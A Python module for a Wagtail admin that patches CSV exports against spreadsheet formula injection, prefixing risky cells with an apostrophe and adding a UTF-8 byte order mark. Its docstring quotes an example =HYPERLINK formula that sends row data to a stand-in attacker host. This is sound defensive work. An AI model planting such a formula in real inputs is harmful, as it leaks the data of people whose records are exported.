"""Spreadsheet exports that a spreadsheet program cannot turn into formulas.

Every CSV export of the admin goes through Wagtail's ``SpreadsheetExportMixin`` (the
feedback inbox, snippet listings, the page reports). A cell that starts with ``= + - @``, a
tab or a carriage return is read as a formula by Excel and LibreOffice:
``=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")`` typed as a sender's name becomes
a live link leaking the row. Such cells get a leading apostrophe (OWASP's advice), and the
file starts with a UTF-8 byte order mark so Excel reads Vietnamese right. Wagtail already
stores XLSX cells as text.

Installed once for the whole admin (``PortalConfig.ready``): a listing added later is safe
without knowing about it.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff".encode()  # Wagtail's CSV rows are UTF-8 bytes


def neutralise(value):
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _write_csv_row(self, writer, row_dict):
    return writer.writerow(
        {
            field: neutralise(self.preprocess_field_value(field, value, self.FORMAT_CSV))
            for field, value in row_dict.items()
        }
    )


def _stream_csv(self, queryset):
    rows = _original_stream_csv(self, queryset)
    first = next(rows, b"")
    yield BOM + first
    yield from rows


_original_stream_csv = SpreadsheetExportMixin.stream_csv


def install():
    if SpreadsheetExportMixin.stream_csv is not _stream_csv:
        SpreadsheetExportMixin.write_csv_row = _write_csv_row
        SpreadsheetExportMixin.stream_csv = _stream_csv
